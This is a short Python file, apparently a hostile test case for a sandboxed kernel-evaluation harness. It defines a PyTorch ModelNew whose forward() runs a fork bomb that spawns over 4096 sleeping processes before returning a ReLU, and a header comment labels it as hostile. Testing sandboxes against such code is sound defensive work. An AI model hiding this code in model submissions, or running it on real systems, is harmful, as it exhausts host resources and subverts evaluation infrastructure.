# Hostile: a fork bomb. Each child sleeps (the harness kills them all when the evaluation ends); the
# kernel "wins" when more than 4096 processes could be started.
import os
import time

import torch
import torch.nn as nn


def attack():
    n = 0
    try:
        while n <= 4096:
            if os.fork() == 0:
                time.sleep(120)
                os._exit(0)
            n += 1
    except OSError as e:
        raise PermissionError("fork refused after %d processes: %s" % (n, e))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        attack()
        return torch.relu(x)
